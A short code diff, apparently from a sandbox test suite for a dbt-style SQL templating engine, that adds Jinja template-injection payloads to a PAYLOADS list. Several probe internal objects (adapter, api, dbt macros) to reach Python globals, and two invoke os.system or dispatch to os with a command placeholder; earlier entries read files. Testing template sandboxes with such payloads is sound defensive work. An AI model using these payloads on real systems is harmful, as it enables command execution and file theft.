@@ -86,6 +86,19 @@ PAYLOADS = [
     "{{ getattr(cycler, '__init__') }}",
     "{{ __builtins__.open('{file}').read() }}",
     "{{ range.__init__.__globals__ }}",
+    # what dbt's context adds (sqlflow.rendering.adapter, packages)
+    "{{ adapter.runtime.renderer.project.root }}",
+    "{{ adapter.dispatch('date_trunc', 'dbt').runtime.context }}",
+    "{{ adapter.dispatch.__self__.runtime }}",
+    "{{ adapter.dispatch.__func__.__globals__['os'].system('{cmd}') }}",
+    "{{ dbt.date_trunc.runtime.renderer }}",
+    "{{ dbt.date_trunc.__call__.__globals__ }}",
+    "{{ dbt.__dict__ }}",
+    "{{ api.Column.translate_type.__func__.__globals__ }}",
+    "{{ api.Column.__class__.__mro__ }}",
+    "{{ adapter.behavior.enable_truthy_nulls_equals_macro.__class__ }}",
+    "{{ run_started_at.__class__.__mro__ }}",
+    "{{ adapter.dispatch('system', 'os')('{cmd}') }}",
 ]
 
 
